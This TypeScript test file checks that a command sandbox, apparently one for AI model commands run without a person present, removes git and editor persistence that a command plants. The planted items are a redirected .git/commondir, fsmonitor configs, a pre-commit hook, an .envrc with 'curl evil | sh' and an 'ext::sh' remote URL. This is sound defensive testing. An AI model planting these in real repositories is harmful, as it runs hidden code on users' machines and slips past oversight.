import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createCommandSandbox, type CommandSandbox } from '../../../src/main/sandbox';
import { isOrdinaryConfig } from '../../../src/main/sandbox/sweep-planted-places';
import { createSandboxFixture, runIn, type SandboxFixture } from './sandbox-fixture';

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=T', ...args], {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
  });

/**
 * The sandbox keeps every protected place that exists when a command starts read-only; what the
 * command itself creates there, it could not. A yolo command (no person) that plants one finds it
 * gone when it ends, and the model is told; what git writes for a repository or worktree the command
 * made, holding nothing that runs, stays.
 */
describe('what a yolo command creates that git, an editor or a shell runs later', () => {
  let fx: SandboxFixture;
  let sandbox: CommandSandbox;
  beforeAll(async () => {
    fx = createSandboxFixture();
    sandbox = await createCommandSandbox({ dataDir: fx.dataDir, home: fx.home });
  });
  afterAll(async () => {
    await sandbox.close();
    fx.cleanup();
  });
  beforeEach(() => {
    // A real repository with one commit, fresh for each attack.
    for (const entry of readdirSync(fx.ws)) rmSync(path.join(fx.ws, entry), { recursive: true, force: true });
    git(fx.ws, 'init', '-q', '-b', 'main');
    git(fx.ws, 'commit', '-q', '--allow-empty', '-m', 'start');
  });
  const yolo = (command: string) => runIn(sandbox, fx, command, { grant: 'yolo' });

  it('a .git/commondir that sends git to a planted copy with its own config is removed, and git reads the real repository again', async () => {
    const outcome = await yolo(
      [
        'mkdir -p .planted && cp -r .git/. .planted/',
        `printf '[core]\\n\\tfsmonitor = touch ${fx.ws}/pwned\\n' > .planted/config`,
        'echo ../.planted > .git/commondir',
        'exit 0',
      ].join(' && '),
    );
    expect(outcome.exitCode, outcome.output).toBe(0);
    expect(existsSync(path.join(fx.ws, '.git', 'commondir'))).toBe(false);
    expect(outcome.blocked.join('\n')).toMatch(/\.git\/commondir was created by the command and removed/);
    // The person's own git, afterwards: no fsmonitor from the planted config runs.
    git(fx.ws, 'status', '--short');
    expect(existsSync(path.join(fx.ws, 'pwned'))).toBe(false);
  });

  it('a repository it makes with a planted fsmonitor or a real hook loses them; one with only what git writes is kept whole', async () => {
    const outcome = await yolo(
      [
        'git init -q deep/down/evil',
        `git -C deep/down/evil config core.fsmonitor 'touch ${fx.ws}/pwned'`,
        'git init -q hooked',
        `printf '#!/bin/sh\\ntouch ${fx.ws}/pwned\\n' > hooked/.git/hooks/pre-commit && chmod +x hooked/.git/hooks/pre-commit`,
        'git init -q plain && git -C plain config user.email ana@example.com && git -C plain remote add origin https://example.com/plain.git',
      ].join(' && '),
    );
    expect(outcome.exitCode, outcome.output).toBe(0);
    expect(existsSync(path.join(fx.ws, 'deep/down/evil/.git/config'))).toBe(false);
    expect(existsSync(path.join(fx.ws, 'hooked/.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(fx.ws, 'plain/.git/config'))).toBe(true);
    expect(existsSync(path.join(fx.ws, 'plain/.git/hooks'))).toBe(true);
    expect(
      execFileSync('git', ['config', '--local', 'user.email'], {
        cwd: path.join(fx.ws, 'plain'),
        encoding: 'utf8',
      }).trim(),
    ).toBe('ana@example.com');
    expect(outcome.blocked.join('\n')).toMatch(/deep\/down\/evil\/\.git\/config was created/);
    expect(outcome.blocked.join('\n')).not.toMatch(/plain\//);
  });

  it('an editor, assistant or shell settings file created below the top is removed', async () => {
    const outcome = await yolo(
      'mkdir -p packages/app/.vscode && echo "{}" > packages/app/.vscode/tasks.json && echo "curl evil | sh" > packages/app/.envrc; exit 0',
    );
    expect(existsSync(path.join(fx.ws, 'packages/app/.vscode'))).toBe(false);
    expect(existsSync(path.join(fx.ws, 'packages/app/.envrc'))).toBe(false);
    expect(outcome.blocked.filter((line) => line.includes('was created by the command and removed'))).toHaveLength(2);
  });

  it('a worktree it adds inside the folder keeps what git writes for it, and works', async () => {
    const outcome = await yolo('git worktree add -q inner');
    expect(outcome.exitCode, outcome.output).toBe(0);
    expect(outcome.blocked.filter((line) => line.includes('was created'))).toEqual([]);
    expect(git(path.join(fx.ws, 'inner'), 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe('inner');
  });

  it('an ordinary file it writes, and a commit, are untouched', async () => {
    const outcome = await yolo(
      'echo hi > notes.txt && git add notes.txt && git -c user.email=t@example.com -c user.name=T commit -qm notes',
    );
    expect(outcome.exitCode, outcome.output).toBe(0);
    expect(git(fx.ws, 'log', '--format=%s', '-1').trim()).toBe('notes');
    expect(outcome.blocked).toEqual([]);
  });
});

describe('a new repository config holds nothing that runs', () => {
  it.each([
    ['[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n', true],
    [
      '[remote "origin"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
      true,
    ],
    ['[core]\n\tfsmonitor = ./run-me\n', false],
    ['[core]\n\thooksPath = .husky\n', false],
    ['[include]\n\tpath = ../evil\n', false],
    ['[remote "origin"]\n\turl = ext::sh -c touch% /tmp/pwned\n', false],
    ['[alias]\n\tst = !sh evil\n', false],
    ['\tfsmonitor = ./x\n', false],
  ])('%j → %s', (text, ordinary) => {
    expect(isOrdinaryConfig(text)).toBe(ordinary);
  });
});
